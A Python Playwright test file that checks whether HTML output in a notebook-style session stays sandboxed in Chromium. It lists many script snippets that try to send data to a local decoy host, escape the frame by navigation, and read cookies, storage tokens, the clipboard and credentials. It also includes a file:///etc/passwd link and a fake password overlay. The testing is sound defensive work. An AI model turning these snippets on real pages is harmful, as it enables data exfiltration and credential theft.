"""HTML of a session in a real Chromium: what script in it can reach, which is its own box."""

from __future__ import annotations

import asyncio
import html
import json
from pathlib import Path

import pytest
from playwright.async_api import Browser, Frame, Page, expect

from tests.support.decoy import Decoy
from tests.support.serving import Serving
from tests.support.session_page import SessionPage

pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]

# Each asks DECOY for an address that names it. They work in a page without a policy.
SENDERS = {
    "fetch": "fetch(DECOY + '/fetch', {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon(DECOY + '/beacon', 'x')",
    "request": "r = new XMLHttpRequest(); r.open('GET', DECOY + '/request'); r.send()",
    "websocket": "new WebSocket(DECOY.replace('http', 'ws') + '/websocket')",
    "events": "new EventSource(DECOY + '/events')",
    "image": "new Image().src = DECOY + '/image'",
    "script": "add('<script src=' + DECOY + '/script></' + 'script>')",
    "style": "add('<link rel=stylesheet href=' + DECOY + '/style>')",
    "import": "add('<style>@import \"' + DECOY + '/import\"</style>')",
    "background": "add('<p style=\"background:url(' + DECOY + '/background)\">x</p>')",
    "font": "add('<style>@font-face{font-family:f;src:url(' + DECOY + '/font)}</style>'"
    " + '<p style=\"font-family:f\">x</p>')",
    "video": "add('<video autoplay src=' + DECOY + '/video></video>')",
    "track": "add('<object data=' + DECOY + '/track></object>')",
    "embed": "add('<embed src=' + DECOY + '/embed>')",
    "frame": "add('<iframe src=' + DECOY + '/frame></iframe>')",
    "prefetch": "add('<link rel=prefetch href=' + DECOY + '/prefetch>')",
    "preload": "add('<link rel=preload as=image href=' + DECOY + '/preload>')",
    "module": "add('<link rel=modulepreload href=' + DECOY + '/module>')",
    "form": "add('<iframe name=sink></iframe><form method=post target=sink action=' + DECOY"
    " + '/form></form>');"
    " document.forms[0].submit()",
    "popup": "open(DECOY + '/popup')",
    "ping": "add('<a href=#x ping=' + DECOY + '/ping>x</a>');"
    " document.querySelector('[ping]').click()",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + DECOY + '/worker\")'])))",
    "import()": "import(DECOY + '/import()')",
    "webrtc": "p = new RTCPeerConnection({iceServers: [{urls: 'stun:' + DECOY.slice(7)}]});"
    " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "srcdoc": "add('<iframe srcdoc=\"<img src=' + DECOY + '/srcdoc>\"></iframe>')",
}  # fmt: skip
# A document inside the document, with everything in it that the outer one may have lost.
INSIDE = {
    "webrtc inside": "add('<iframe srcdoc=\"<script>p = new RTCPeerConnection({iceServers:"
    " [{urls: `stun:' + DECOY.slice(7) + '`}]}); p.createDataChannel(`x`);"
    " p.createOffer().then((o) => p.setLocalDescription(o))</' + 'script>\"></iframe>')",
}  # fmt: skip
# These leave their document: each has one of its own.
LEAVERS = {
    "location": "location = DECOY + '/location'",
    "replace": "location.replace(DECOY + '/replace')",
    "link": "add('<a id=leave href=' + DECOY + '/link>x</a>'); leave.click()",
    "refresh": "add('<meta http-equiv=refresh content=\"0;url=' + DECOY + '/refresh\">')",
    "top": "top.location = DECOY + '/top'",
    "parent": "parent.location.replace(DECOY + '/parent')",
    "top link": "add('<a id=leave target=_top href=' + DECOY + '/toplink>x</a>'); leave.click()",
    "blank link": "add('<a id=leave target=_blank href=' + DECOY + '/blank>x</a>'); leave.click()",
    "document": "location = 'data:text/html,<img src=' + DECOY + '/document>'",
    "blob": "location = URL.createObjectURL(new Blob(['<img src=' + DECOY + '/blob>'],"
    " {type: 'text/html'}))",
    "script address": "location = 'javascript:fetch(DECOY + \"/address\")'",
}
# Each gives what must not be had; an exception, or one of NOTHING, is a refusal.
REACHERS = {
    "parent's document": "parent.document.title",
    "top's document": "top.document.body.innerHTML",
    "parent's storage": "parent.sessionStorage.length",
    "own session storage": "sessionStorage.getItem('watchglass.server-token')",
    "own local storage": "localStorage.length",
    "cookies": "document.cookie",
    "database": "indexedDB.open('x') && 'opened'",
    "caches": "await caches.keys() && 'opened'",
    "parent's name": "parent.name",
    "parent's address": "parent.location.href",
    "the frame that holds it": "frameElement.outerHTML",
    "parent's variables": "parent.__preact",
    "origin": "self.origin === 'null' ? null : self.origin",
    "domain": "document.domain = '127.0.0.1'",
    "ancestors": "location.ancestorOrigins[0] === 'null' ? null : undefined",
    "dialog": "confirm('x') || null",
    "prompt": "prompt('password?')",
    "popup": "open('about:blank')",
    "service worker": "await navigator.serviceWorker.register('/x.js')",
    "clipboard": "await navigator.clipboard.readText()",
    "clipboard write": "await navigator.clipboard.writeText('x') || 'written'",
    "place": "await new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))",
    "camera": "await navigator.mediaDevices.getUserMedia({video: true})",
    "full screen": "await document.documentElement.requestFullscreen() || 'full'",
    "pointer": "await document.body.requestPointerLock() || 'locked'",
    "password": "await navigator.credentials.get({password: true})",
    "notification": "await Notification.requestPermission() === 'granted' || null",
    "code from a string": "eval('1 + 1')",
    "function from a string": "new Function('return 1')()",
    "broadcast": "new BroadcastChannel('x') && null",
    "referrer": "document.referrer",
}
PROLOGUE = """
const add = (text) => document.body.append(document.createRange().createContextualFragment(text));
const tried = {}; let leave = null, p = null, r = null;
Object.defineProperty(globalThis, 'leave', {get: () => document.getElementById('leave')});
"""


def attempts(decoy: str, scripts: dict[str, str]) -> str:
    """A document that makes all of these attempts, whatever becomes of each."""
    tries = "".join(f"try {{ {script} }} catch (error) {{}}\n" for script in scripts.values())
    prologue = PROLOGUE.replace("let leave = null, p", "let p")
    return f"<script>{{ const DECOY = {json.dumps(decoy)};{prologue}{tries} }}</script>"


def reaching() -> str:
    tries = "".join(
        f"try {{ tried[{json.dumps(name)}] = String({script}); }}"
        f" catch (error) {{ tried[{json.dumps(name)}] = 'refused'; }}\n"
        for name, script in REACHERS.items()
    )
    return (
        f"<script>(async () => {{ const tried = {{}};{tries}"
        "document.body.append(JSON.stringify(tried)); })()</script>"
    )


async def show(ada: SessionPage, number: int, text: str) -> Frame:
    """Display HTML in the session; its frame."""
    code = f"from IPython.display import HTML\nHTML({text!r})"
    await ada.run(code)
    execution = await ada.ended(number)
    handle = await execution.get_by_test_id("html-output").element_handle()
    assert handle is not None
    frame = await handle.content_frame()
    assert frame is not None
    return frame


@pytest.fixture
async def ada(browser: Browser, server: Serving) -> SessionPage:
    ada = await SessionPage.of(browser, server.address)
    await ada.create()
    return ada


async def test_these_attempts_reach_the_decoy_where_there_is_no_sandbox(browser: Browser) -> None:
    async with Decoy() as decoy:
        scripts = SENDERS
        async with Decoy("<body>" + attempts(decoy.url, scripts)) as site:
            page = await browser.new_page()
            await page.goto(site.url + "/")
            await asyncio.sleep(3)
            heard = {one.strip("/").rstrip("?") for one in decoy.heard}
            silent = scripts.keys() - heard - {"webrtc", "webrtc inside"}
            assert not silent, f"these prove nothing: {silent}"
            await page.close()
    for script in (SENDERS["webrtc"], INSIDE["webrtc inside"]):
        await hears(browser, script, "a datagram")


async def hears(browser: Browser, script: str, sign: str) -> None:
    async with (
        Decoy() as decoy,
        Decoy("<body>" + attempts(decoy.url, {"": script})) as site,
        asyncio.timeout(10),
    ):
        page = await browser.new_page()
        await page.goto(site.url + "/")
        while sign not in decoy.heard:  # noqa: ASYNC110 - it tells nobody
            await asyncio.sleep(0.1)
        await page.close()


async def test_html_of_a_session_sends_nothing_to_anybody(ada: SessionPage) -> None:
    async with Decoy() as decoy:
        popups: list[Page] = []
        ada.context.on("page", lambda page: popups.append(page))
        await show(ada, 1, attempts(decoy.url, SENDERS))
        for name, script in LEAVERS.items():
            await ada.run(f"HTML({attempts(decoy.url, {name: script})!r})")
        await ada.ended(1 + len(LEAVERS))
        before = ada.page.url
        await asyncio.sleep(3)
        assert decoy.heard == []
        assert popups == []
        assert ada.page.url == before
        await expect(ada.get("session")).to_be_visible()


async def test_a_document_inside_of_it_sends_nothing_either(ada: SessionPage) -> None:
    async with Decoy() as decoy:
        # Chromium 156 ends the sandbox's process here, which playwright takes for the page's.
        await ada.run(f"from IPython.display import HTML\nHTML({attempts(decoy.url, INSIDE)!r})")
        await asyncio.sleep(4)
        assert decoy.heard == []


async def test_html_of_a_session_reaches_nothing_of_the_page(ada: SessionPage) -> None:
    frame = await show(ada, 1, reaching())
    async with asyncio.timeout(10):
        while "}" not in (said := await frame.inner_text("body")):  # noqa: ASYNC110
            await asyncio.sleep(0.1)
    tried = json.loads(said)
    nothing = {"refused", "", "null", "undefined", "false", "0"}
    assert {name: got for name, got in tried.items() if got not in nothing} == {}
    assert tried.keys() == REACHERS.keys()


async def test_html_of_a_session_stays_in_its_box(ada: SessionPage) -> None:
    cover = (
        "<div style='position:fixed;inset:-5000px;width:20000px;height:20000px;background:red;"
        "z-index:2147483647'>password?</div><dialog open popover id=d>x</dialog>"
        "<script>d.close(); d.showModal(); try { d.showPopover() } catch {}</script>"
    )
    await show(ada, 1, cover)
    box = await ada.get("html-output").bounding_box()
    transcript = await ada.get("session").bounding_box()
    assert box is not None
    assert transcript is not None
    assert box["height"] <= 640
    assert box["width"] < transcript["width"]
    # The mouse still reaches what is the page's own, wherever it is.
    for mine in ("presence", "share-open"):
        await ada.get(mine).click(trial=True)
    await ada.run("after = 1")
    await ada.ended(2)


async def test_html_of_a_session_opens_no_dialog_of_the_page_by_itself(ada: SessionPage) -> None:
    asked = "parent.postMessage({kind: 'link', address: 'http://x.example'}, '*')"
    await show(ada, 1, f"<p>x</p><script>setInterval(() => {asked}, 20)</script>")
    await asyncio.sleep(1)
    await expect(ada.get("dialog-link")).to_have_count(0)
    await ada.run("typed = 1")
    await ada.ended(2)
    await expect(ada.get("dialog-link")).to_have_count(0)


async def test_a_link_in_html_of_a_session_asks_first_and_never_runs(ada: SessionPage) -> None:
    links = "<a id=good href='https://example.org/?q=1'>good</a> " + "".join(
        f"<a class=bad href='{address}'>bad</a> "
        for address in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "/x")
    )
    frame = await show(ada, 1, links)
    for bad in await frame.query_selector_all(".bad"):
        await bad.click()
    await expect(ada.get("dialog-link")).to_have_count(0)
    await frame.click("#good")
    await expect(ada.get("dialog-link")).to_contain_text("https://example.org/?q=1")


async def test_html_of_a_session_that_never_ends_does_not_stop_the_page(ada: SessionPage) -> None:
    code = f"from IPython.display import HTML\nHTML({'<script>while (true) {}</script>'!r})"
    await ada.run(code)
    await ada.ended(1)
    await ada.run("after = 'still here'")
    await ada.ended(2)
    await ada.sees("after", "still here")


async def test_a_flood_of_heights_leaves_the_page_usable(ada: SessionPage) -> None:
    flood = (
        "<script>let n = 0; setInterval(() => { for (let i = 0; i < 500; i++)"
        " parent.postMessage({kind: 'height', height: 20 + (n++ % 600)}, '*'); }, 1)</script>"
    )
    await ada.run(f"from IPython.display import HTML\nHTML({flood!r})")
    await expect(ada.get("html-stopped")).to_be_visible(timeout=15_000)
    await ada.run("after = 'still here'")
    await ada.ended(2)
    await ada.sees("after", "still here")


def test_the_built_page_has_no_inline_script_but_the_sandbox_is_one_file() -> None:
    built = Path(__file__).parents[2] / "web/dist"
    assert "src=" not in (built / "output.html").read_text().partition("<script")[0]
    assert html.unescape((built / "index.html").read_text()).count("<script>") == 0
